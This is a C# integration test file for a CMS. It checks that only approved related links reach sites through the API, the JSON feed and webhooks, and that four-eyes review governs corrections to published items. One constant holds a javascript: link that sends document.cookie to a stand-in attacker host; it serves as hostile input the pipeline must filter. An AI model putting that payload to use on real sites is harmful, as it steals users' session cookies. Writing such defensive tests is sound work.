using System.Text.Json;
using Cms.Application.Delivery;
using Cms.Application.Items;
using Cms.Application.Publishing;
using Cms.Core.Items;
using Cms.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Cms.Web.Tests.Delivery;

// Link identity crossed with delivery: what a consuming site receives (the read API, the JSON feed
// and the webhook body) is exactly the approved related links by URL, after source revisions that
// insert, reorder and add hostile links; and an accepted revision of a Published item reaches the
// sites only through a correction, which four-eyes keeps whoever accepted it from publishing.
public sealed class LinkIdentityDeliveryTests(DeliveryFixture app) : WebTest(app), IClassFixture<DeliveryFixture>
{
    private const string Script = "javascript:fetch('https://evil.example/?c='+document.cookie)";

    private static readonly Actor SecondEditor = Actor.System("test") with { UserId = "editor-2", Name = "editor2@example.com" };

    public override async Task DisposeAsync()
    {
        Factory.WithDb(db => db.WebhookEndpoints.ExecuteUpdate(u => u.SetProperty(e => e.Enabled, false)));
        await base.DisposeAsync();
    }

    private sealed record Story(TestItem Item, string A, string B, string C, string Category)
    {
        public static Story New()
        {
            var tag = Unique.Tag();
            var (a, b, c) = ($"https://a.example/{tag}", $"https://propaganda.example/{tag}", $"https://c.example/{tag}");
            var category = "links-" + tag;
            return new Story(new TestItem { Category = category, Related = [("Outlet A", a), ("Outlet B", b), ("Outlet C", c)] }, a, b, c, category);
        }

        public string WithRelated(params (string Title, string Url)[] related) => (Item with { Related = related }).ToYaml();
    }

    private List<(long Id, string Url, LinkDecision Decision)> Links(long id) =>
        Factory.WithDb(db => db.RelatedLinks.AsNoTracking().Where(l => l.ItemId == id).OrderBy(l => l.Position).Select(l => new { l.Id, l.Url, l.Decision }).ToList())
            .Select(l => (l.Id, l.Url!, l.Decision)).ToList();

    private async Task DecideAsync(Actor actor, long id, params (string Url, LinkDecision Decision, string? Reason)[] decisions)
    {
        var item = Factory.WithDb(db => db.Items.AsNoTracking().Single(i => i.Id == id));
        var topics = Factory.WithDb(db => db.ItemTopics.Where(t => t.ItemId == id).OrderBy(t => t.Position).Select(t => t.Topic!.Name).ToList());
        var changes = Links(id).Select(l => decisions.FirstOrDefault(d => d.Url == l.Url) is { Url: not null } d
            ? new SaveItemEdits.LinkChange(l.Id, d.Decision, d.Reason)
            : new SaveItemEdits.LinkChange(l.Id, l.Decision, null)).ToList();
        var saved = await app.RunAsync(s => s.GetRequiredService<SaveItemEdits>().HandleAsync(actor,
            new SaveItemEdits.Command(id, item.Version, item.Quality, item.Category, topics, changes, null), CancellationToken.None));
        Assert.True(saved.Succeeded, saved.Message);
    }

    private async Task<Outcome> AcceptAsync(Actor actor, long id, IReadOnlyCollection<string> fields)
    {
        var comparison = await app.RunAsync(s => s.GetRequiredService<SourceRevisions>().CompareAsync(id, CancellationToken.None));
        var version = Factory.WithDb(db => db.Items.Single(i => i.Id == id).Version);
        return await app.RunAsync(s => s.GetRequiredService<SourceRevisions>().AcceptAsync(actor, id, comparison!.RevisionId, version, fields, CancellationToken.None));
    }

    private Task<Outcome> CorrectAsync(Actor actor, long id) =>
        app.RunAsync(s => s.GetRequiredService<ItemTransitions>().HandleAsync(actor, new ItemTransitions.Request(id, WorkflowAction.Correct, "links revised"), CancellationToken.None));

    // Imported, A and C approved and B rejected by the editor, marked ready, published by the publisher.
    private async Task<long> PublishedAsync(Story story)
    {
        await ImportAsync(story.Item);
        var id = ItemId(story.Item);
        await DecideAsync(DeliveryFixture.Editor, id, (story.A, LinkDecision.Approved, null), (story.B, LinkDecision.Rejected, "propaganda outlet"), (story.C, LinkDecision.Approved, null));
        Assert.True((await app.MoveAsync([id], WorkflowAction.MarkReady, DeliveryFixture.Editor)).Succeeded);
        Assert.True((await app.MoveAsync([id], WorkflowAction.Publish, DeliveryFixture.Publisher)).Succeeded);
        return id;
    }

    private static List<string> Urls(JsonElement item) =>
        item.TryGetProperty("related", out var related) ? related.EnumerateArray().Select(r => r.GetProperty("webUrl").GetString()!).ToList() : [];

    // What a site reads: the API's version and related links, and the JSON feed entry's version
    // (the feeds carry no related links; they must carry nothing of a rejected one either).
    // As one line, "v1 https://a... https://c... | feed v1", so a failure shows what the site got.
    private async Task<string> SiteSeesAsync(HttpClient api, long id, string category)
    {
        var entry = JsonDocument.Parse(await api.GetStringAsync($"/api/v1/published/{id}")).RootElement;
        var body = await api.GetStringAsync($"/api/v1/feeds/json?category={category}");
        Assert.DoesNotContain("javascript", body);
        Assert.DoesNotContain("propaganda", body);
        var feedItem = Assert.Single(JsonDocument.Parse(body).RootElement.GetProperty("items").EnumerateArray());
        return Sees(entry.GetProperty("version").GetInt32(), Urls(entry.GetProperty("item")), feedItem.GetProperty("_cms").GetProperty("version").GetInt32());
    }

    private static string Sees(int version, IEnumerable<string> urls, int feedVersion) => $"v{version} {string.Join(' ', urls)} | feed v{feedVersion}";

    [Fact]
    public async Task A_revision_inserting_reordering_and_adding_a_script_link_reaches_sites_only_through_a_correction_and_then_with_exactly_the_approved_links()
    {
        await using var receiver = await WebhookReceiver.StartAsync();
        var endpoint = await app.RunAsync(s => s.GetRequiredService<WebhookEndpoints>().AddAsync(Actor.CommandLine(), receiver.Url, [.. DeliveryEvents.All], CancellationToken.None));
        receiver.Secrets["current"] = endpoint.Value.Secret;
        var api = app.Api(await app.SiteTokenAsync());
        var story = Story.New();
        var id = await PublishedAsync(story);
        Assert.Equal(Sees(1, [story.A, story.C], 1), await SiteSeesAsync(api, id, story.Category));
        await app.SendWebhooksAsync();

        // The pipeline's newer file: a script link first, a new outlet, the rest reordered.
        var newUrl = $"https://new.example/{Unique.Tag()}";
        await Corpus.ImportAsync(Factory.Services, story.WithRelated(("Read this", Script), ("New outlet", newUrl), ("Outlet C", story.C), ("Outlet B", story.B), ("Outlet A", story.A)));
        var accepted = await AcceptAsync(SecondEditor, id, ["related"]);

        // Accepted: the item stays Published, its decisions stayed with their URLs, the new links
        // wait, and the sites still have version 1 with A and C.
        Assert.Equal(SourceRevisions.AcceptedOnPublished, accepted.Message);
        Assert.Equal(WorkflowState.Published, Factory.WithDb(db => db.Items.Single(i => i.Id == id).State));
        Assert.Equal([(Script, LinkDecision.Rejected), (newUrl, LinkDecision.Pending), (story.C, LinkDecision.Approved), (story.B, LinkDecision.Rejected), (story.A, LinkDecision.Approved)],
            Links(id).Select(l => (l.Url, l.Decision)));
        await app.RunAsync(s => s.GetRequiredService<PublishWorker>().RunOnceAsync("test", CancellationToken.None));
        Assert.Equal(Sees(1, [story.A, story.C], 1), await SiteSeesAsync(api, id, story.Category));

        // The correction waits for the new link's decision, and its acceptor may not publish it.
        Assert.Equal(OutcomeStatus.Invalid, (await CorrectAsync(DeliveryFixture.Publisher, id)).Status);
        await DecideAsync(DeliveryFixture.Editor, id, (newUrl, LinkDecision.Approved, null), (Script, LinkDecision.Approved, null));
        Assert.Equal(OutcomeStatus.Forbidden, (await CorrectAsync(DeliveryFixture.Publisher with { UserId = "editor" }, id)).Status);
        var corrected = await CorrectAsync(DeliveryFixture.Publisher, id);
        Assert.True(corrected.Succeeded, corrected.Message);
        await app.RunAsync(s => s.GetRequiredService<PublishWorker>().RunOnceAsync("test", CancellationToken.None));
        await app.SendWebhooksAsync();

        // Version 2: the approved links in the source's new order, never the script or the rejected outlet.
        Assert.Equal(Sees(2, [newUrl, story.C, story.A], 2), await SiteSeesAsync(api, id, story.Category));
        var bodies = receiver.Requests.Select(r => JsonDocument.Parse(r.Body).RootElement).Where(b => b.GetProperty("data").GetProperty("id").GetInt64() == id).ToList();
        Assert.Equal(["item.published", "item.corrected"], bodies.Select(b => b.GetProperty("type").GetString()));
        Assert.Equal([story.A, story.C], Urls(bodies[0].GetProperty("data").GetProperty("item")));
        Assert.Equal([newUrl, story.C, story.A], Urls(bodies[1].GetProperty("data").GetProperty("item")));
        Assert.DoesNotContain(receiver.Requests, r => r.Body.Contains("javascript", StringComparison.Ordinal) || r.Body.Contains("propaganda", StringComparison.Ordinal));
        var file = await File.ReadAllTextAsync(Path.Combine(Factory.PublishFolder, Factory.WithDb(db => db.Items.Single(i => i.Id == id).OutputFile!)));
        Assert.DoesNotContain("javascript", file);
        Assert.DoesNotContain("propaganda", file);
    }

    [Fact]
    public async Task A_publisher_who_accepts_a_revision_of_a_published_item_with_nothing_ticked_cannot_correct_it_himself_and_sites_keep_the_reviewed_version()
    {
        var api = app.Api(await app.SiteTokenAsync());
        var story = Story.New();
        var id = await PublishedAsync(story);
        await Corpus.ImportAsync(Factory.Services, (story.Item with { ExtraYaml = ["body: \"<p>Unreviewed claims</p>\""] }).ToYaml());

        var accepted = await AcceptAsync(DeliveryFixture.OtherPublisher, id, []);
        await app.RunAsync(s => s.GetRequiredService<PublishWorker>().RunOnceAsync("test", CancellationToken.None));

        Assert.Equal(SourceRevisions.AcceptedOnPublished, accepted.Message);
        Assert.Equal(OutcomeStatus.Forbidden, (await CorrectAsync(DeliveryFixture.OtherPublisher, id)).Status);
        Assert.Equal(Sees(1, [story.A, story.C], 1), await SiteSeesAsync(api, id, story.Category));
        var entry = await api.GetStringAsync($"/api/v1/published/{id}");
        Assert.DoesNotContain("Unreviewed claims", entry);
        // Another publisher reviews it and corrects: then, and only then, the sites get the body.
        Assert.True((await CorrectAsync(DeliveryFixture.Publisher, id)).Succeeded);
        Assert.Contains("Unreviewed claims", await api.GetStringAsync($"/api/v1/published/{id}"));
    }

    [Fact]
    public async Task Accepting_a_revision_of_a_published_item_that_changes_nothing_it_publishes_leaves_the_last_reviewer_able_to_correct()
    {
        var story = Story.New();
        var id = await PublishedAsync(story);
        // Only the order of the links changes, nothing ticked: the output is the same.
        await Corpus.ImportAsync(Factory.Services, story.WithRelated(("Outlet C", story.C), ("Outlet B", story.B), ("Outlet A", story.A)));

        var accepted = await AcceptAsync(DeliveryFixture.OtherPublisher, id, []);

        Assert.True(accepted.Succeeded, accepted.Message);
        Assert.Null(Factory.WithDb(db => db.Items.Single(i => i.Id == id).ReadyBy));
        Assert.True((await CorrectAsync(DeliveryFixture.OtherPublisher, id)).Succeeded);
    }
}
